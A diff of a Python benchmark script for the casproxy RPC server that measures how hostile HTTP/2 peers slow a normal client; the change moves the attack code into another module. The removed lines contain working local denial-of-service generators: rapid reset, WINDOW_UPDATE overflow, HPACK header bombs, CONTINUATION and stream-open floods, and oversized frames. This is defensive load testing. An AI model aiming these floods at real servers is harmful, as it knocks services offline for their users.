@@ -1,7 +1,7 @@
 """What hostile peers cost a well-behaved one: latency beside each attack, and ten thousand open streams.
 
-    python contrib/bench/hostile.py latency [--seconds 3]
-    python contrib/bench/hostile.py streams [--connections 10 --streams 1000]
+    python -m contrib.bench.hostile latency [--seconds 3]
+    python -m contrib.bench.hostile streams [--connections 10 --streams 1000]
 
 Server, attacker and neighbour are processes of their own; the server is the wire with an echo behind it, no store. With
 ``--check`` the exit code is 1 when a figure is worse than what docs/explanation/abuse.md promises.
@@ -24,123 +24,18 @@ from pathlib import Path
 
 import psutil
 import trio
-from hpack import Encoder
 
 from casproxy.rpc.api import Method, MethodInfo, MethodKind, ServerCall
 from casproxy.rpc.channel import Channel, open_channel
 from casproxy.rpc.server import Server, ServerSettings
+from contrib.bench.attacks import ATTACKS, DATA, PREFACE, SETTINGS, WINDOW_UPDATE, attack, frame, request
 
 ECHO = MethodInfo("bench", "Echo", MethodKind.UNARY)
 STALL = MethodInfo("bench", "Stall", MethodKind.BIDI_STREAM)
 BUDGET = 64 << 20
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 MOST_LATENCY_RATIO = 2.0
 MOST_BYTES_PER_STREAM = 20 << 10
 LEAST_THROUGHPUT_RATIO = 0.9
-
-
-def frame(kind: int, flags: int, stream_id: int, body: bytes = b"") -> bytes:
-    """One HTTP/2 frame, nothing checked."""
-    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + body
-
-
-def request(stream_id: int, path: str, *extra: tuple[bytes, bytes], flags: int = 4) -> bytes:
-    """The headers of a call, in a block that depends on no other."""
-    pseudo = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"bench")]
-    fields = [*pseudo, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *extra]
-    return frame(HEADERS, flags, stream_id, Encoder().encode(fields))
-
-
-# -- the attacks: what goes out on each connection, again and again until the server hangs up ---------------
-
-
-def rapid_reset() -> Iterator[bytes]:
-    """HEADERS and RST_STREAM."""
-    for first in range(1, 2**31, 2000):
-        yield b"".join(
-            request(number, STALL.path) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
-            for number in range(first, first + 2000, 2)
-        )
-
-
-def made_you_reset() -> Iterator[bytes]:
-    """HEADERS and a WINDOW_UPDATE that overflows."""
-    overflow = struct.pack(">I", 2**31 - 1)
-    for first in range(1, 2**31, 2000):
-        yield b"".join(
-            request(number, STALL.path) + frame(WINDOW_UPDATE, 0, number, overflow)
-            for number in range(first, first + 2000, 2)
-        )
-
-
-def bombs() -> Iterator[bytes]:
-    """One table entry and many mentions of it, just within the limits, on calls that are refused."""
-    entry = b"\x40\x01b\x7f" + bytes([3000 - 127 & 127 | 128, 3000 - 127 >> 7]) + b"z" * 3000
-    for number in range(1, 2**31, 2):
-        yield frame(HEADERS, 5, number, entry + b"\xbe" * 8)
-
-
-def continuations() -> Iterator[bytes]:
-    """A header block in eight crumbs each time."""
-    for number in range(1, 2**31, 2):
-        yield request(number, STALL.path, flags=1) + frame(CONTINUATION, 0, number) * 7 + frame(CONTINUATION, 4, number)
-
-
-def opens() -> Iterator[bytes]:
-    """More calls than allowed, for ever."""
-    for first in range(1, 2**31, 2000):
-        yield b"".join(request(number, STALL.path) for number in range(first, first + 2000, 2))
-
-
-def repeated(one: bytes, *, opening: bytes = b"") -> Iterator[bytes]:
-    """The same frame."""
-    yield opening
-    while True:
-        yield one * (65_536 // len(one))
-
-
-ATTACKS = {
-    "nothing": None,
-    "rapid reset": rapid_reset,
-    "made you reset": made_you_reset,
-    "bombs": bombs,
-    "continuations": continuations,
-    "opens": opens,
-    "pings": lambda: repeated(frame(PING, 0, 0, bytes(8))),
-    "settings": lambda: repeated(frame(SETTINGS, 0, 0)),
-    "empty data": lambda: repeated(frame(DATA, 0, 1), opening=request(1, STALL.path)),
-    "priority": lambda: repeated(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 5))),
-    "unknown frames": lambda: repeated(frame(0x55, 0, 0)),
-    "size updates": lambda: repeated(frame(HEADERS, 5, 1, b"\x20" * 16_000)),
-    "frames of 16 MB": lambda: repeated(b"\xff\xff\xff\0\0\0\0\0\1" + bytes(60_000)),
-}
-
-
-def attack(name: str, port: int) -> None:
-    """Attack until killed: connect, send until the server hangs up, pause for a tenth of a second."""
-    make = ATTACKS[name]
-    while make is not None:
-        with socket.create_connection(("127.0.0.1", port)) as peer:
-            try:
-                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
-                for data in make():
-                    peer.sendall(data)
-                    peer.settimeout(0)
-                    _drain(peer)
-                    peer.settimeout(5)
-            except OSError:
-                pass
-        time.sleep(0.1)
-
-
-def _drain(peer: socket.socket) -> None:
-    try:
-        while peer.recv(1 << 20):
-            pass
-    except BlockingIOError:
-        return
-    raise ConnectionResetError
 
 
 # -- the server -----------------------------------------------------------------------------------------
@@ -205,7 +100,7 @@ class ServerProcess:
 @contextmanager
 def _child(*args: str) -> Iterator[subprocess.Popen[str]]:
     process = subprocess.Popen(
-        [sys.executable, __file__, *args], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+        [sys.executable, "-m", "contrib.bench.hostile", *args], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
     )
     with process:
         try:
